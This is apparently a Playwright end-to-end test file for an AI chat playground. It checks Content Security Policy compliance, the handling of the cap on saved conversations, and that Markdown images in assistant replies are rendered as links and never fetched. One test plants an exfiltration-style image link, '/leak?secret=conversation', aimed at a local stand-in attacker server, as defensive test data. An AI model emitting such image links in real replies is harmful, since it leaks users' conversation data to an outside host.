import http from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { e2eEnv } from "../env";
import { BASE_URL, createAccount, expect, SAVED_SETTINGS, signIn, test } from "../fixtures";
import { messageBox, replies, replyText, send, waitForReplyDone } from "./playground-helpers";

// In Chromium, with the production server's CSP on: every page works without a single CSP
// violation; a reply's Markdown image is a link and is never fetched (and an <img> that got into
// the page anyway is blocked by img-src); the cap on saved conversations is said in the UI.

test.use({ accountOptions: { credits: 20 } });

const ORIGIN = { Origin: BASE_URL };
const LEAK_PORT = Number(e2eEnv().APP_PORT) + 77;

/** Records every CSP violation the page reports: its console's and the DOM's events. */
async function watchCsp(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) seen.push(message.text());
  });
  await page.exposeFunction("reportCspViolation", (text: string) => seen.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      (window as unknown as { reportCspViolation(t: string): void }).reportCspViolation(
        `${e.violatedDirective} blocked ${e.blockedURI} at ${e.sourceFile}:${e.lineNumber}`,
      );
    });
  });
  return seen;
}

/** A server standing in for an attacker's host: it counts what reaches it. */
async function leakServer(): Promise<{ hits: string[]; url: string; close: () => Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "image/gif" }).end();
  });
  await new Promise<void>((resolve) => server.listen(LEAK_PORT, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    hits,
    url: `http://127.0.0.1:${port}`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

const settings = SAVED_SETTINGS;

test("no CSP violation on the pages and in the playground, signed out and in", async ({ page }) => {
  test.setTimeout(120_000);
  const violations = await watchCsp(page);
  for (const path of ["/", "/pricing", "/docs", "/register", "/login"]) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
  }
  const account = await createAccount({ credits: 20 });
  await signIn(page, account, "/playground");

  await send(page, "Show me a TypeScript example with a table");
  await waitForReplyDone(replies(page).first());
  await page.waitForURL(/\/playground\?c=/);
  // The theme switch runs next-themes' inline script and style.
  await page.getByRole("button", { name: "Theme" }).first().click();
  await page.getByRole("menuitemradio", { name: "Dark" }).click();
  await expect(page.locator("html")).toHaveClass(/dark/);

  await page.goto("/keys");
  await page.getByRole("button", { name: "Create key", exact: true }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Name").fill("csp");
  await dialog.getByRole("button", { name: "Create key" }).click();
  await expect(dialog.getByText("You will not see this key again.")).toBeVisible();
  await dialog.getByRole("button", { name: "Done" }).click();

  for (const path of ["/my-credits", "/invite", "/pricing", "/docs"]) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
  }
  expect(violations).toEqual([]);
});

test("a reply's Markdown image is shown as a link and never fetched; img-src blocks one that gets in", async ({
  page,
}) => {
  const leak = await leakServer();
  try {
    const violations = await watchCsp(page);
    const account = await createAccount();
    await signIn(page, account, "/playground");
    const content = [
      `Here is your summary. ![x](${leak.url}/leak?secret=conversation)`,
      `And linked: [![inner](${leak.url}/leak?inner)](https://example.com/docs)`,
    ].join("\n\n");
    const created = await page.request.post("/api/conversations", {
      headers: ORIGIN,
      data: {
        settings,
        messages: [
          { role: "user", content: "Summarise" },
          { role: "assistant", content },
        ],
      },
    });
    expect(created.status()).toBe(201);
    const { id } = (await created.json()).conversation;

    await page.goto(`/playground?c=${id}`);
    const reply = replyText(replies(page).first());
    const link = reply.getByRole("link", { name: "x", exact: true });
    await expect(link).toHaveAttribute("href", `${leak.url}/leak?secret=conversation`);
    await expect(link).toHaveAttribute("target", "_blank");
    await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    // Inside a link the image is just its text: one link, to the outer target.
    await expect(reply.getByRole("link", { name: "inner", exact: true })).toHaveAttribute(
      "href",
      "https://example.com/docs",
    );
    await expect(reply.locator("img")).toHaveCount(0);
    await page.waitForLoadState("networkidle");
    expect(leak.hits).toEqual([]);
    expect(violations).toEqual([]);

    // The second layer: an <img> that reached the page some other way is refused by the CSP.
    const blocked = await page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          document.addEventListener(
            "securitypolicyviolation",
            (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`),
            {
              once: true,
            },
          );
          const img = document.createElement("img");
          img.src = src;
          document.body.append(img);
        }),
      `${leak.url}/leak?injected`,
    );
    expect(blocked).toBe(`img-src ${leak.url}/leak?injected`);
    await page.waitForLoadState("networkidle");
    expect(leak.hits).toEqual([]);
  } finally {
    await leak.close();
  }
});

test("at the cap of saved conversations, the playground says to delete old ones and keeps the chat", async ({
  page,
  account,
}) => {
  const { db, ensureMigrated } = await import("@/lib/db");
  await ensureMigrated();
  await db().conversation.createMany({
    data: Array.from({ length: 200 }, (_, i) => ({
      userId: account.id,
      title: `Old ${i}`,
      model: "kimi-k2",
      settings: "{}",
    })),
  });
  await signIn(page, account, "/playground");

  await send(page, "Plan a trip to Porto");
  await waitForReplyDone(replies(page).first());
  const toast = page.getByRole("listitem").filter({ hasText: "This conversation is not saved" });
  await expect(toast).toBeVisible();
  await expect(toast).toContainText("Delete old conversations");
  await messageBox(page).fill("my next question");
  await expect(replyText(replies(page).first())).toContainText("Porto");
  await expect(page).toHaveURL(/\/playground$/);

  // Room again: the next reply saves the whole chat, the unsaved turn included.
  const sidebar = page.getByRole("navigation", { name: "Conversations" });
  await sidebar.getByRole("button", { name: "Actions for Old 0", exact: true }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Delete" }).click();
  await expect(sidebar.getByRole("button", { name: "Old 0", exact: true })).toHaveCount(0);
  await expect(messageBox(page)).toHaveValue("my next question");
  await messageBox(page).press("Enter");
  await waitForReplyDone(replies(page).nth(1));
  await page.waitForURL(/\/playground\?c=/);
  await expect(sidebar.getByRole("button", { name: "Plan a trip to Porto", exact: true })).toBeVisible();
  const id = new URL(page.url()).searchParams.get("c") ?? "";
  // The finished reply is saved after it ends, so the poll waits for that save.
  await expect
    .poll(async () =>
      (await db().message.findMany({ where: { conversationId: id }, orderBy: { position: "asc" } })).map(
        (m) => m.role,
      ),
    )
    .toEqual(["user", "assistant", "user", "assistant"]);
});
